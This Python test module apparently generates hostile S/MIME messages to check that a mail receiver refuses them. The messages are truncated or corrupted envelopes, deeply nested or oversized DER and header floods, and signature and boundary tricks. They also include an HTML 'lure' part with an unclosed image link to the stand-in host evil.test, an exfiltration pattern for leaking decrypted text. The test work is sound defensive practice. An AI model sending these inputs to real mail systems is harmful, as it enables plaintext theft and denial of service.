"""Messages made to harm, each with a name: what a stranger may try who knows our certificate and has a key of his own.

early(): whatever is wrong is behind the seal or in the seal itself: one answer for all, byte for byte.
outside(): seen by anybody from outside: the sender may read that only encrypted mail is taken.
"""
import base64
import os

from . import der, smime
from .base import Failure

LURE = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n"
CMS = b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n"
TYPE = b"multipart/signed; protocol=\"application/pkcs7-signature\"; boundary="


def lines(data):
    text = base64.b64encode(data)
    return b"".join(text[i:i + 76] + b"\r\n" for i in range(0, len(text), 76))


class Hostile:
    """sender, to: addresses; signer: his Cert; recipient: our Cert."""

    def __init__(self, sender, to, signer, recipient):
        self.recipient, self.signer = recipient, signer
        self.head = (f"From: {sender}\r\nTo: {to}\r\nMessage-ID: <{os.urandom(9).hex()}@x.test>\r\n"
                     "Date: Sun, 22 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n").encode()
        self.inner = smime.mail(sender, to, "Hostile", "SECRETMARK\n")
        self.content = smime.wrap(self.inner)
        self.signature = smime.cms_sign(self.content, [signer])
        self.good = self.seal(self.multipart())
        self.envelope = der.Envelope(self.good)

    # --- pieces ---------------------------------------------------------------------------------------

    def seal(self, entity):
        return smime.cms_encrypt(entity, [self.recipient])

    def mail(self, cms):
        return self.head + CMS + b"\r\n" + lines(cms)

    def inside(self, entity):
        return self.mail(self.seal(entity))

    def signature_part(self, signature=None):
        return (b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                lines(self.signature if signature is None else signature))

    def parts(self, *all_parts, boundary=b"=_b"):
        return b"".join(b"--" + boundary + b"\r\n" + p + b"\r\n" for p in all_parts) + b"--" + boundary + b"--\r\n"

    def multipart(self, content=None, signature=None, boundary=b"\"=_b\"", fields=b""):
        return (fields + b"Content-Type: " + TYPE + boundary + b"\r\n\r\n" +
                self.parts(self.content if content is None else content, self.signature_part(signature)))

    def opaque(self, cms):
        return b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + lines(cms)

    def recipient_info(self, issuer_and_serial, key):
        return der.tlv(der.SEQUENCE, b"\x02\x01\x00", issuer_and_serial,
                       der.tlv(der.SEQUENCE, der.tlv(der.OID, der.RSA), der.NULL), der.tlv(der.OCTETS, key))

    # --- kinds ----------------------------------------------------------------------------------------

    def early(self):
        """(name, message) of what is refused before a signature has verified."""
        yield from self._envelopes()
        yield from self._signatures()
        yield from self._entities()
        yield from self._headers()

    def _envelopes(self):
        good, e = self.good, self.envelope
        for cut in (1, 100, len(good) // 2, len(good) - 1):
            yield f"cut to {cut}", self.mail(good[:cut])
        for at in (1, 30, len(good) // 3, len(good) - 40, len(good) - 1):
            yield f"a bit flipped at {at}", self.mail(good[:at] + bytes([good[at] ^ 0x40]) + good[at + 1:])
        yield "nothing", self.mail(b"")
        yield "zeros", self.mail(bytes(100000))
        yield "a byte behind it", self.mail(good + b"x")
        yield "two deep", self.inside(self.opaque(good))
        deep = good
        for _ in range(1000):
            deep = der.content_info(der.ENVELOPED, der.tlv(der.OCTETS, deep))
        yield "a thousand deep", self.mail(deep)
        compressed = der.content_info(der.COMPRESSED, der.tlv(der.SEQUENCE, b"\x02\x01\x00", der.tlv(der.OCTETS, b"x")))
        yield "compressed", self.mail(compressed)
        yield "compressed inside", self.inside(self.opaque(compressed))
        yield "open lengths", self.mail(b"\x30\x80" * 1000000)
        yield "a type of a megabyte", self.mail(der.content_info(b"\x81" * 1000000, der.tlv(der.OCTETS, b"x")))
        stranger = self.recipient_info(der.tlv(der.SEQUENCE, der.tlv(der.SEQUENCE), b"\x02\x01\x01"), bytes(256))
        yield "10000 recipients, all us", self.mail(e.der(recipients=e.recipients * 10000))
        yield "10000 strangers", self.mail(e.der(recipients=stranger * 10000))
        ours = der.identity(self.recipient.der)
        wrong = b"".join(self.recipient_info(ours, os.urandom(255)) for _ in range(999))
        yield "999 wrong keys for us", self.mail(e.der(recipients=wrong))
        name = der.tlv(der.SEQUENCE, bytes.fromhex("310a30080603550403130178") * 500)
        serial = der.children(der.read(ours)[1])[1]
        endless = self.recipient_info(der.tlv(der.SEQUENCE, name, serial), bytes(256))
        yield "endless issuers", self.mail(e.der(recipients=endless * 999))
        pieces = b"".join(b"\x04\x01" + bytes([b]) for b in os.urandom(1 << 20))
        yield "a million pieces", self.mail(e.der(encrypted=der.tagged(0, pieces)))
        text = lines(good)
        yield "text behind the base64", self.head + CMS + b"\r\n" + text + b"<img src=x>\r\n"
        yield "padding in the middle", self.head + CMS + b"\r\nMA==\r\n" + text
        yield "white space, then cut", self.head + CMS + b"\r\n" + text[:100] + b" \r\n" * 1000000
        yield "it says quoted-printable", self.head + CMS.replace(b"base64", b"quoted-printable") + b"\r\n" + text

    def _signatures(self):
        certificate = self.signer.der
        info = der.signer(certificate, bytes(255) + b"\x01")
        yield "10000 signers", self.inside(self.multipart(signature=der.signed_data(certificate, info * 10000)))
        yield "10000 certificates", self.inside(self.multipart(signature=der.signed_data(certificate * 10000, info)))
        empty = der.tlv(der.OCTETS | 0x20, b"\x04\x00" * 500000, der.tlv(der.OCTETS, b"x"))
        yield "signers over empty pieces", self.inside(self.opaque(der.signed_data(certificate, info * 1000, empty)))
        for bits, exponent in ((16384, 65537), (3072, (1 << 3071) - 1)):
            slow = der.with_rsa_key(certificate, bits, exponent)
            many = der.signer(slow, b"\x7f" * (bits // 8)) * 1000
            yield f"a key of {bits} bits", self.inside(self.multipart(signature=der.signed_data(slow, many)))
        attributes = der.tlv(der.SEQUENCE, der.tlv(der.OID, b"\x55\x04\x03"), der.tlv(der.SET, b"\x05\x00" * 1000000))
        yield "endless attributes", self.inside(self.multipart(
            signature=der.signed_data(certificate, der.signer(certificate, b"x", attributes))))
        yield "line feeds", self.inside(self.multipart(content=self.content + b"\n" * (4 << 20)))
        yield "no signer", self.inside(self.multipart(signature=der.signed_data(certificate, b"")))
        yield "other content", self.inside(self.multipart(content=self.content.replace(b"SECRETMARK", b"OTHERTEXTS")))

    def _entities(self):
        good = self.parts(self.content, self.signature_part())
        head = b"Content-Type: " + TYPE + b"\"=_b\"\r\n\r\n"
        if head + good != self.multipart():
            raise Failure("the pieces do not make the whole")
        yield "a part behind", self.inside(head + good + LURE)
        yield "text in front", self.inside(head + b"\xc3\xa4\r\n" + good)
        yield "three parts", self.inside(head + self.parts(LURE, self.content, self.signature_part()))
        yield "a lure beside the signature", self.inside(head + self.parts(LURE, self.signature_part()))
        yield "signed between lures", self.inside(b"Content-Type: multipart/mixed; boundary=q\r\n\r\n" +
                                                  self.parts(LURE, head + good, LURE, boundary=b"q"))
        yield "not signed", self.inside(LURE)
        yield "not closed", self.inside((head + good)[:-4])
        for name, boundary in (("none", b""), ("empty", b"\"\""), ("a thousand letters", b"\"" + b"b" * 1000 + b"\""),
                               ("twice", b"\"=_b\"; boundary=x"), ("its beginning", b"\"=_\""),
                               ("in pieces", b"; boundary*0=\"=\"; boundary*1=\"_b\"")):
            yield f"boundary: {name}", self.inside(self.multipart(boundary=boundary))
        yield "a thousand parts", self.inside(head + b"--=_b\r\n\r\nx\r\n" * 1000 + b"--=_b--\r\n")
        yield "random bytes in a field beside", self.inside(self.multipart(fields=b"X-Y: \x01\xff\x80\r\n"))
        yield "100000 fields inside", self.inside(b"A: b\r\n" * 100000 + b"\r\n")

    def _headers(self):
        body = CMS + b"\r\n" + lines(self.good)
        yield "100000 fields", self.head + b"A: b\r\n" * 100000 + body
        yield "10 MB of fields", self.head + (b"X-A: " + b"a" * 60000 + b"\r\n") * 170 + body
        yield "two types", self.head + CMS + body
        yield "two types that differ", self.head + b"Content-Type: text/plain\r\n" + body
        yield "a bare CR", self.head + b"X-A: a\rb\r\n" + body

    def outside(self):
        """(name, message): the sealed part is inside something else, or nothing is sealed."""
        part = CMS + b"\r\n" + lines(self.good)
        for name, kind, all_parts in (("between lures", b"mixed", (LURE, part, LURE)), ("behind a lure", b"related", (LURE, part)),
                                      ("alone", b"mixed", (part,)), ("as an alternative", b"alternative", (LURE, part))):
            yield name, (self.head + b"Content-Type: multipart/" + kind + b"; boundary=q\r\n\r\n" +
                         self.parts(*all_parts, boundary=b"q"))
        yield "forwarded", self.head + b"Content-Type: message/rfc822\r\n\r\nFrom: a@b.test\r\n" + part
        yield "signed only", self.head + self.opaque(smime.cms_sign(self.content, [self.signer], smime.Sealing(opaque=True)))
        yield "named by its file", self.head + b"Content-Disposition: attachment; filename=smime.p7m\r\n\r\n" + lines(self.good)
